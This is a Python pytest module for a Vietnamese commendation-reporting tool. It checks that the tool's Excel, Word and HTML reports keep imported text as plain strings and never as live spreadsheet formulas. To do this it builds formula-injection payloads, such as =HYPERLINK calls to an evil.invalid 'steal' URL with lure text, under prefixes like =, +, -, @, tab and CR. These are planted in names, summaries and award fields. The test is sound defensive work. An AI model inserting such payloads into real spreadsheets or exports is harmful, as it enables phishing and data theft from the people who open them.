"""Reports never carry formulas from text: every text cell of a workbook is a string
cell, whatever it starts with; a Word document holds text runs only.

The texts start with what a spreadsheet takes for a formula (=, +, -, @, tab, CR) and
come from authors (a unit's own stories) and from units' exports (a department's
`--sector` reports, from a snapshot made by the real `vinhdanh import`). The files are
read back with openpyxl and python-docx and as the XML inside them."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import docx
import html5lib
import openpyxl
import pytest
from test_reports import project, run_in, story
from unitexport import TODAY, department, exemplar, feed, run

PREFIXES = ("=", "+", "-", "@", "\t", "\r")
FORMULA_START = tuple(PREFIXES)
SLUG = "thi-dua-cong-thuc"
REPORTS = {
    "monthly": ("monthly", "--month", "2026-03"),
    "yearly": ("yearly", "--year", "2026"),
    "registration": ("registration", "--period", "2025-2027"),
    "campaign": ("campaign", SLUG),
}


def attack(prefix: str, where: str) -> str:
    return f'{prefix}HYPERLINK("http://evil.invalid/?{where}","Bấm vào đây")'


def visible(text: str) -> str:
    """What the reader of content keeps of a one-line text: whitespace collapsed."""
    return " ".join(text.split())


# -- reading the files back ---------------------------------------------------------


def xlsx_problems(path: Path) -> list[str]:
    """Formula cells, and text cells that start like a formula without being a plain
    string with Excel's quote prefix; empty when the workbook is safe."""
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(n).decode("utf-8") for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    problems = [f"<f> in {path.name}" for xml in sheets if re.search(r"<f[\s>]", xml)]
    for sheet in openpyxl.load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    problems.append(f"{cell.coordinate} formula {cell.value!r}")
                elif isinstance(cell.value, str) and cell.value.startswith(FORMULA_START) and not (cell.data_type == "s" and cell.quotePrefix):
                    problems.append(f"{cell.coordinate} {cell.data_type} {cell.value!r} without quote prefix")
    return problems


def xlsx_texts(path: Path) -> set[str]:
    return {c.value for row in openpyxl.load_workbook(path).active.iter_rows() for c in row if isinstance(c.value, str)}


def docx_problems(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("word/document.xml").decode("utf-8")
    return re.findall(r"<w:(?:fldSimple|instrText|fldChar)\b", xml)


def docx_texts(path: Path) -> set[str]:
    document = docx.Document(str(path))
    return {c.text for t in document.tables for row in t.rows for c in row.cells} | {p.text for p in document.paragraphs}


def html_texts(path: Path) -> set[str]:
    tree = html5lib.parse(path.read_text(encoding="utf-8"), namespaceHTMLElements=False)
    return {"".join(e.itertext()) for e in tree.iter() if e.tag in ("td", "p", "h1", "h2", "th")}


def reports(root: Path, folder: Path, sector: bool = False, which=REPORTS) -> dict[tuple[str, str], Path]:
    out = {}
    for name, args in which.items():
        for fmt in ("xlsx", "docx", "html"):
            target = folder / f"{name}.{fmt}"
            extra = ("--sector",) if sector else ()
            code, _out, err = run("--root", str(root), "report", *args, *extra, "--today", TODAY, "-o", str(target))
            assert code == 0, err
            out[name, fmt] = target
    return out


# -- a unit's own reports -------------------------------------------------------------


@pytest.fixture(scope="module")
def unit_reports(tmp_path_factory) -> dict[tuple[str, str], Path]:
    """One story per prefix, the prefix in its title, position, summary and award
    decision; a campaign whose title starts with "=" honours them all."""
    base = tmp_path_factory.mktemp("formulas")
    root = project(base / "project")
    campaign = root / "content/campaigns" / f"{SLUG}.md"
    campaign.parent.mkdir(parents=True)
    campaign.write_text(
        f"---\ntitle: '{attack('=', 'campaign')}'\ndate: 2026-01-05\nsummary: Phong trào thử.\nhost: Sở Y tế tỉnh Thử\nstart: 2026-01-10\nend: 2026-12-31\nstatus: published\n---\n\nKế hoạch.\n",
        encoding="utf-8",
    )
    for i, prefix in enumerate(PREFIXES):
        story(
            root,
            f"cong-thuc-{i}",
            f"Nguyễn Văn Thử {i}",
            title=attack(prefix, f"title{i}"),
            position=attack(prefix, f"position{i}"),
            summary=attack(prefix, f"summary{i}"),
            campaigns=[SLUG],
            awards=[{"year": 2026, "title": "lao-dong-tien-tien", "decision": attack(prefix, f"decision{i}")}],
        )
    assert run_in(root, "validate") == 0
    return reports(root, base)


@pytest.mark.parametrize("name", REPORTS)
def test_a_units_workbook_holds_its_authors_formulas_as_text(unit_reports, name):
    path = unit_reports[name, "xlsx"]
    assert xlsx_problems(path) == []
    texts = xlsx_texts(path)
    if name != "registration":  # the only report without summaries and positions
        for i, prefix in enumerate(PREFIXES):
            assert visible(attack(prefix, f"summary{i}")) in texts
            assert visible(attack(prefix, f"position{i}")) in texts
    if name == "campaign":
        assert attack("=", "campaign") in texts  # the campaign's title, in the subtitle


@pytest.mark.parametrize("name", REPORTS)
def test_a_units_document_and_page_show_the_text_as_written(unit_reports, name):
    assert docx_problems(unit_reports[name, "docx"]) == []
    document, page = docx_texts(unit_reports[name, "docx"]), html_texts(unit_reports[name, "html"])
    if name != "registration":
        for i, prefix in enumerate(PREFIXES):
            assert visible(attack(prefix, f"summary{i}")) in document
            assert visible(attack(prefix, f"summary{i}")) in page


# -- a department's --sector reports ---------------------------------------------------

SECTOR_REPORTS = {"monthly": ("monthly", "--month", "2026-11"), "yearly": ("yearly", "--year", "2026"), "registration": ("registration", "--period", "2025-2027")}
HYPERLINK = '=HYPERLINK("http://evil.invalid/steal?x=1","Xem hồ sơ đầy đủ")'


@pytest.fixture(scope="module")
def sector_reports(tmp_path_factory) -> dict[tuple[str, str], Path]:
    """A unit whose export's texts start with every prefix, verbatim (JSON keeps a
    leading tab or CR), and one summary with a control character XML cannot hold."""
    base = tmp_path_factory.mktemp("sector-formulas")
    items = [exemplar("hyperlink", "Trần Văn Liên Kết", HYPERLINK, awards=({"year": 2026, "id": "giay-khen", "name": "Giấy khen", "short": "GK"},))]
    for i, prefix in enumerate(PREFIXES):
        award = {"year": 2026, "id": f"dh-{i}", "name": attack(prefix, f"award{i}"), "short": f"{prefix}1+{i}", "decision": attack(prefix, f"decision{i}")}
        items.append(exemplar(f"tien-to-{i}", f"{prefix}Lê Thị {i}", attack(prefix, f"summary{i}"), position=attack(prefix, f"position{i}"), unit_name=f"{prefix}Khoa {i}", awards=(award,)))
    items.append(exemplar("chuong", "Võ Văn Chuông", "Tiếng chuông\x07 báo động giữa đêm."))
    root = department(base / "so", feed(items))
    return reports(root, base, sector=True, which=SECTOR_REPORTS)


@pytest.mark.parametrize("name", SECTOR_REPORTS)
def test_the_departments_workbook_holds_the_units_formulas_as_text(sector_reports, name):
    path = sector_reports[name, "xlsx"]
    assert xlsx_problems(path) == []
    texts = xlsx_texts(path)
    for i, prefix in enumerate(PREFIXES):
        assert f"{prefix}Lê Thị {i}" in texts  # verbatim: a leading tab or CR kept
        if name != "registration":
            assert attack(prefix, f"summary{i}") in texts
            assert f"{prefix}Khoa {i}" in texts
    if name != "registration":
        assert HYPERLINK in texts
        assert "Tiếng chuông báo động giữa đêm." in texts  # the control character dropped, not a crash


def test_the_hyperlink_summary_is_a_plain_string_cell_in_the_xml(sector_reports):
    """B24/E24 of the issue: the cell is a string (openpyxl writes it inline), holds no
    <f>, and is styled with the quote prefix."""
    path = sector_reports["monthly", "xlsx"]
    sheet = openpyxl.load_workbook(path).active
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == HYPERLINK)
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    xml_cell = re.search(rf'<c r="{cell.coordinate}"[^>]*>.*?</c>', xml)
    assert xml_cell and re.match(r'<c [^>]*t="(s|inlineStr)"', xml_cell.group(0)) and "<f>" not in xml_cell.group(0)
    assert cell.quotePrefix and cell.data_type == "s"


@pytest.mark.parametrize("name", SECTOR_REPORTS)
def test_the_departments_document_and_page_show_the_text_as_written(sector_reports, name):
    assert docx_problems(sector_reports[name, "docx"]) == []
    document, page = docx_texts(sector_reports[name, "docx"]), html_texts(sector_reports[name, "html"])
    if name != "registration":
        assert HYPERLINK in document and HYPERLINK in page
        for i, prefix in enumerate(PREFIXES):
            assert visible(attack(prefix, f"summary{i}")) in {visible(t) for t in document}
